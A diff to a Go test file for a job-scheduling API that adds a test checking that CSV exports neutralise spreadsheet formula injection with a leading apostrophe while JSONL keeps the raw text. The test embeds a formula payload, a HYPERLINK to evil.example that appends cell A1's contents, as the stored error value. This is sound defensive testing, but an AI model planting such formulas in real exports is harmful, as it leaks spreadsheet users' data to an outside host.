@@ -1,7 +1,10 @@
 package api_test
 
 import (
+	"bytes"
 	"context"
+	"encoding/csv"
+	"slices"
 	"strings"
 	"testing"
 	"time"
@@ -100,6 +103,45 @@ func TestReplayEditedSecretNotShown(t *testing.T) {
 		}
 		if !strings.Contains(string(stored.RequestBody), pw) {
 			t.Errorf("stored replay body %q; want the edit kept for the send", stored.RequestBody)
+		}
+	})
+}
+
+// TestExportCSVFormulaCells: an export's free-text cells (an error may
+// quote the endpoint) that a spreadsheet would run as a formula start with
+// a ' in the CSV; the JSON lines keep them as they are.
+func TestExportCSVFormulaCells(t *testing.T) {
+	t.Parallel()
+	dialects(t, func(t *testing.T, s *server) {
+		tn := s.newTenant(prikke.TierPro)
+		c := s.withKey(tn.key)
+		r := c.do("POST", "/api/v1/jobs", map[string]any{"url": "https://example.com/hook", "interval": "hourly"})
+		var j struct {
+			ID string `json:"id"`
+		}
+		r.json(t, &j)
+		jobID, _ := prikke.ParseID(j.ID)
+		at := time.Now().UTC().Add(-time.Hour).Truncate(time.Millisecond)
+		const evil = `=HYPERLINK("https://evil.example/?"&A1,"click")`
+		e := &prikke.Execution{ID: prikke.NewID(), JobID: jobID, ProjectID: tn.project.ID, OrganizationID: tn.org.ID,
+			ScheduledFor: at, DueAt: at, Attempt: 1, Status: prikke.ExecutionStatusFailed, Error: evil, CreatedAt: at,
+			StartedAt: &at, FinishedAt: &at, RequestMethod: "POST", RequestURL: "https://example.com/hook"}
+		if err := s.store.ExecutionInsert(context.Background(), e); err != nil {
+			t.Fatal(err)
+		}
+		base := "/api/v1/projects/" + tn.project.ID.String() + "/executions/export"
+		r = c.do("GET", base+"?format=csv", nil)
+		rows, err := csv.NewReader(bytes.NewReader(r.Body)).ReadAll()
+		if r.Status != 200 || err != nil || len(rows) != 2 {
+			t.Fatalf("export = %d %v %s", r.Status, err, r.Body)
+		}
+		col := slices.Index(rows[0], "error")
+		if got := rows[1][col]; got != "'"+evil {
+			t.Errorf("csv error cell %q; want it neutralised with a leading '", got)
+		}
+		r = c.do("GET", base+"?format=jsonl", nil)
+		if r.Status != 200 || !strings.Contains(string(r.Body), `"error":"=HYPERLINK`) {
+			t.Errorf("jsonl = %d %s; want the error as it is", r.Status, r.Body)
 		}
 	})
 }
